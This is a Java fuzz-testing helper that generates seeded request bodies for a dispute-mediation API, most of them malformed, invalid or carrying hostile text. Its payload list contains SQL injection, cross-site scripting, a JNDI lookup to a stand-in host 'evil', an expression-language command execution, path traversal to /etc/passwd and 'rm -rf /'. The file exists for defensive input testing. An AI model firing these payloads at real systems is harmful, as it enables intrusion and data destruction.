package org.mediationdesk.support;

import java.math.BigDecimal;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.function.Consumer;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.util.RawValue;

/**
 * Generated request bodies for fuzzing the API, from one seeded {@link Random} so a failure
 * reproduces with its seed. Each body is either {@linkplain #refusedRegistration broken by construction}
 * (the API must answer 4xx and store nothing) or {@linkplain #acceptableRegistration valid but nasty}
 * (SQL, script and template fragments, emoji and line breaks in free text: the API must store them
 * verbatim). {@linkplain #strictInputViolation Strict-input violations} are refused naming their field.
 */
public final class FuzzInputs {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    public static final List<String> NASTY_TEXT = List.of(
            "'; DROP TABLE dispute_case; --", "\" OR \"1\"=\"1", "1' UNION SELECT password_hash FROM app_user --",
            "<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "${jndi:ldap://evil/x}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}", "{{7*7}}", "%s%s%s%n", "../../../../etc/passwd",
            "\\u0000\\\\", "😀🏳️‍🌈𠀋", "NULL", "null", "\u200B零宽空格之间\u200B",
            "' OR 1=1; UPDATE mediator SET active = 0; --", "\\'; SELECT SLEEP(5); --", "`rm -rf /`");

    private static final List<String> TOP_FIELDS = List.of("type", "source", "countyCode", "township", "village",
            "description", "occurredOn", "peopleInvolved", "amountInDispute", "parties", "riskIndicators",
            "courtStage", "chosenMediator");
    private static final List<String> PARTY_FIELDS = List.of("role", "kind", "name", "idNumber", "phone",
            "vulnerabilities");
    private static final List<String> REQUIRED_TOP = List.of("type", "source", "countyCode", "township",
            "description", "occurredOn", "peopleInvolved", "parties");
    private static final List<String> CODE_FIELDS = List.of("type", "source", "countyCode", "township", "courtStage");

    private final Random random;

    /** Text that one-line fields refuse: control characters (NUL, DEL, line breaks) and bidirectional controls. */
    public static final List<String> CONTROL_TEXT = List.of("\u0000nul", "a\u0007bell", "\u202Eright-to-left",
            "\u202Aembedded", "\u2066isolate", "del\u007F", "\u001B[31m", "two\nlines", "tab\tbed", "\u0085next");

    /** Names with nothing to see: zero-width spaces, a word joiner, blanks of other scripts. */
    public static final List<String> INVISIBLE_NAMES = List.of("\u200B", "\u200B\u200B\u200B", "\u2060\uFEFF",
            "\u3000\u200B", "\u3164", "\u200C\u200D", "\u00A0\u2800");

    /** A body the API must refuse, and the field its first problem must name. */
    public record Violation(String body, String field) {
    }

    public FuzzInputs(long seed) {
        this.random = new Random(seed);
    }

    /** A registration the API must refuse: malformed JSON, a wrong type, a missing field, an unknown code, too long… */
    public String refusedRegistration() {
        return switch (random.nextInt(11)) {
            case 10 -> strictInputViolation().body();
            case 0 -> malformedJson(Disputes.fisheryDisputeInLinghu().toString());
            case 1 -> wrongType();
            case 2 -> missingField();
            case 3 -> unknownCode();
            case 4 -> tooLong();
            case 5 -> badPartyField();
            case 6 -> outOfRangeNumberOrDate();
            case 7 -> unknownField();
            case 8 -> notAnObject();
            default -> deeplyNested();
        };
    }

    /** A valid registration whose free-text fields carry nasty but storable text. */
    public ObjectNode acceptableRegistration() {
        ObjectNode body = Disputes.fisheryDisputeInLinghu();
        body.put("description", "鱼塘纠纷 " + nasty() + (random.nextBoolean() ? "\r\n\t第二行" : ""));
        body.put("village", truncate(nasty(), 64));
        Disputes.party(body, 1).put("name", truncate("钱" + nasty(), 100));
        return body;
    }

    /**
     * A registration that only strict input refuses: a fractional count of people, a control
     * character or a lone surrogate in free text, a name of invisible characters, a field given twice.
     */
    public Violation strictInputViolation() {
        ObjectNode body = Disputes.fisheryDisputeInLinghu();
        int party = random.nextInt(2);
        String partyField = "parties[" + party + "].";
        return switch (random.nextInt(6)) {
            case 0 -> new Violation(body.put("peopleInvolved", random.nextInt(20) + 0.5).toString(), "peopleInvolved");
            case 1 -> {
                String[] fields = {"description", "village", "township"};
                String field = pick(fields);
                String text = pick(CONTROL_TEXT.toArray(String[]::new));
                if (field.equals("description") && text.matches("two\nlines|tab\tbed")) {
                    text = "\u0000" + text;
                }
                yield new Violation(body.put(field, body.get(field).asText() + text).toString(), field);
            }
            case 2 -> {
                Disputes.party(body, party).put("name", "钱" + pick(CONTROL_TEXT.toArray(String[]::new)));
                yield new Violation(body.toString(), partyField + "name");
            }
            case 3 -> {
                Disputes.party(body, party).put("name", pick(INVISIBLE_NAMES.toArray(String[]::new)));
                yield new Violation(body.toString(), partyField + "name");
            }
            case 4 -> {
                // A lone surrogate can only be written as a JSON escape: as a Java char it is not UTF-8.
                String surrogate = random.nextBoolean() ? "\\ud83d" : "\\ude00";
                Disputes.party(body, party).put("name", "钱LONE");
                yield new Violation(body.toString().replace("LONE", surrogate), partyField + "name");
            }
            default -> {
                if (random.nextBoolean()) {
                    yield new Violation(body.toString().replaceFirst("\\{", "{\"description\":\"先写的\","),
                            "description");
                }
                String json = body.toString();
                String role = party == 0 ? "\"role\":\"APPLICANT\"" : "\"role\":\"RESPONDENT\"";
                yield new Violation(json.replace(role, role + ",\"name\":\"重名\""), partyField + "name");
            }
        };
    }

    /** A body for completing an acceptance task that the API must refuse. */
    public String refusedAcceptance() {
        ObjectNode form = JSON.createObjectNode().put("decision", "ACCEPT");
        return switch (random.nextInt(7)) {
            case 0 -> malformedJson(form.toString());
            case 1 -> form.set("decision", randomValueOtherThanText()).toString();
            case 2 -> form.put("decision", randomCode()).toString();
            case 3 -> form.put("reason", "理由".repeat(251) + nasty()).toString();
            case 4 -> form.put(randomCode(), nasty()).toString();
            case 5 -> form.put("decision", "DECLINE").put("declineGround", randomCode()).toString();
            default -> notAnObject();
        };
    }

    /** A query string for the task list, mostly with bad or extreme values. */
    public String taskListQuery() {
        String[] scopes = {"MINE", "CENTRE", "ALL", "", "mine", nastyEncoded()};
        String[] numbers = {"0", "-1", "1", "100", "101", "2147483647", "-2147483648", "99999999999", "1.5", "abc",
                nastyEncoded()};
        String[] sorts = {"DUE_ASC", "DUE_DESC", "RANDOM", nastyEncoded()};
        String[] colours = {"RED", "GREEN", "PURPLE", "", nastyEncoded()};
        String[] texts = {"", "NX-2026", "张", "%25", "_", nastyEncoded()};
        return "/api/tasks?scope=" + pick(scopes) + "&page=" + pick(numbers) + "&size=" + pick(numbers)
                + "&sort=" + pick(sorts) + "&colour=" + pick(colours) + "&overdue=" + pick(new String[] {"true", "x"})
                + "&stage=" + pick(texts) + "&type=" + pick(texts) + "&q=" + pick(texts);
    }

    /** A task id that names no task: random, empty-ish, path tricks or SQL. */
    public String unknownTaskId() {
        String[] ids = {"no-such-task", "0", "-1", "%27%20OR%201%3D1", "..%2F..%2Fcases", "x".repeat(300),
                Long.toString(random.nextLong()), Long.toHexString(random.nextLong()) + "-" + Long.toHexString(random.nextLong()), "%F0%9F%98%80"};
        return pick(ids);
    }

    public String assigneeBody() {
        return switch (random.nextInt(4)) {
            case 0 -> JSON.createObjectNode().put("assignee", nasty()).toString();
            case 1 -> JSON.createObjectNode().set("assignee", randomValueOtherThanText()).toString();
            case 2 -> malformedJson("{\"assignee\": \"linghu.mediator\"}");
            default -> notAnObject();
        };
    }

    public String idempotencyKey() {
        return switch (random.nextInt(4)) {
            case 0 -> "k".repeat(129 + random.nextInt(5000));
            case 1 -> " ";
            default -> null;
        };
    }

    public String nasty() {
        return pick(NASTY_TEXT.toArray(String[]::new));
    }

    private String wrongType() {
        ObjectNode body = Disputes.fisheryDisputeInLinghu();
        String field = pick(TOP_FIELDS.toArray(String[]::new));
        JsonNode value = field.equals("peopleInvolved") || field.equals("amountInDispute")
                ? randomValueNotNumeric() : randomValueOtherThanText();
        if (field.equals("parties") || field.equals("riskIndicators")) {
            value = random.nextBoolean() ? NODES.textNode(nasty()) : NODES.objectNode();
        }
        body.set(field, value);
        return body.toString();
    }

    private String missingField() {
        ObjectNode body = Disputes.fisheryDisputeInLinghu();
        String field = pick(REQUIRED_TOP.toArray(String[]::new));
        if (random.nextBoolean()) {
            body.remove(field);
        } else {
            body.putNull(field);
        }
        return body.toString();
    }

    private String unknownCode() {
        ObjectNode body = Disputes.fisheryDisputeInLinghu();
        String field = pick(CODE_FIELDS.toArray(String[]::new));
        body.put(field, random.nextBoolean() ? randomCode() : nasty());
        if (field.equals("courtStage")) {
            body.put("source", "COURT_REFERRAL");
        }
        return body.toString();
    }

    private String tooLong() {
        ObjectNode body = Disputes.fisheryDisputeInLinghu();
        Consumer<ObjectNode> change = switch (random.nextInt(5)) {
            case 0 -> b -> b.put("description", "纠".repeat(2001 + random.nextInt(200_000)));
            case 1 -> b -> b.put("village", "村".repeat(65 + random.nextInt(1000)));
            case 2 -> b -> b.put("township", "镇".repeat(33 + random.nextInt(1000)));
            case 3 -> b -> Disputes.party(b, 0).put("name", nasty() + "张".repeat(101));
            default -> b -> b.put("chosenMediator", "m".repeat(65 + random.nextInt(1000)));
        };
        change.accept(body);
        return body.toString();
    }

    private String badPartyField() {
        ObjectNode body = Disputes.fisheryDisputeInLinghu();
        ObjectNode party = Disputes.party(body, random.nextInt(2));
        String field = pick(PARTY_FIELDS.toArray(String[]::new));
        switch (random.nextInt(4)) {
            case 0 -> party.set(field, randomValueOtherThanText());
            case 1 -> party.put(field, field.equals("name") ? "" : randomCode() + nasty());
            case 2 -> party.put("idNumber", String.format("%017dZ", Math.floorMod(random.nextLong(), 100_000_000_000_000_000L)));
            default -> party.put("phone", nasty());
        }
        if (field.equals("vulnerabilities")) {
            party.putArray("vulnerabilities").add(randomCode());
        }
        return body.toString();
    }

    private String outOfRangeNumberOrDate() {
        ObjectNode body = Disputes.fisheryDisputeInLinghu();
        switch (random.nextInt(8)) {
            case 0 -> body.put("peopleInvolved", -random.nextInt(1000));
            case 1 -> body.put("peopleInvolved", 100_001 + (long) random.nextInt(Integer.MAX_VALUE));
            case 2 -> body.put("amountInDispute", "1e400");
            case 3 -> body.put("amountInDispute", -0.01 - random.nextInt(1000));
            case 4 -> body.put("amountInDispute", new BigDecimal("1234567890123.456"));
            case 5 -> body.put("occurredOn", pick(new String[] {"2026-02-30", "0000-00-00", "2999-12-31",
                    "yesterday", "2026/11/01", "20261101", "-999999999-01-01"}));
            case 6 -> body.putRawValue("peopleInvolved",
                    new RawValue("9".repeat(30)));
            default -> body.put("peopleInvolved", "12abc");
        }
        return body.toString();
    }

    private String unknownField() {
        ObjectNode body = Disputes.fisheryDisputeInLinghu();
        ObjectNode target = random.nextBoolean() ? body : Disputes.party(body, 0);
        target.put(random.nextBoolean() ? randomCode() : nasty(), nasty());
        return body.toString();
    }

    private String notAnObject() {
        return pick(new String[] {"", "null", "[]", "42", "\"text\"", "true", "[{}]", "{}", "{\"\":\"\"}",
                nasty(), "\u0000\u0001\u0002", randomBytesAsText()});
    }

    private String deeplyNested() {
        int depth = 500 + random.nextInt(5000);
        return "{\"parties\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
    }

    private String malformedJson(String valid) {
        return switch (random.nextInt(5)) {
            case 0 -> valid.substring(0, random.nextInt(valid.length()));
            case 1 -> valid.replace("\"", "'");
            case 2 -> "{,," + valid.substring(1);
            case 3 -> "x" + valid;
            default -> {
                char[] chars = valid.toCharArray();
                chars[random.nextInt(chars.length)] = (char) random.nextInt(0x80);
                String mutated = new String(chars);
                yield isValidJson(mutated) ? valid.substring(1) : mutated;
            }
        };
    }

    /** Arrays and objects only: Jackson coerces scalars into text and numbers into enums (as ordinals). */
    private JsonNode randomValueOtherThanText() {
        return switch (random.nextInt(3)) {
            case 0 -> NODES.arrayNode().add(nasty());
            case 1 -> NODES.objectNode().put("value", nasty());
            default -> NODES.arrayNode();
        };
    }

    /** Not numbers: Jackson reads "12", true and "null" as numbers (or as no value) for boxed number fields. */
    private JsonNode randomValueNotNumeric() {
        return switch (random.nextInt(3)) {
            case 0 -> NODES.textNode("x" + randomCode());
            case 1 -> NODES.arrayNode().add(1);
            default -> NODES.objectNode();
        };
    }

    private String randomCode() {
        StringBuilder code = new StringBuilder();
        int length = 1 + random.nextInt(20);
        for (int i = 0; i < length; i++) {
            code.append((char) ('A' + random.nextInt(26)));
        }
        return code.toString();
    }

    private String randomBytesAsText() {
        byte[] bytes = new byte[1 + random.nextInt(200)];
        random.nextBytes(bytes);
        return new String(bytes, StandardCharsets.ISO_8859_1);
    }

    private String nastyEncoded() {
        return URLEncoder.encode(nasty(), StandardCharsets.UTF_8);
    }

    private String pick(String[] values) {
        return values[random.nextInt(values.length)];
    }

    private static String truncate(String text, int max) {
        return text.length() <= max ? text : text.substring(0, max);
    }

    private static boolean isValidJson(String text) {
        try {
            JSON.readTree(text);
            return true;
        } catch (Exception e) {
            return false;
        }
    }

    /** The number of parties in a body built by {@link #acceptableRegistration}. */
    public static int parties(ObjectNode body) {
        return ((ArrayNode) body.get("parties")).size();
    }
}
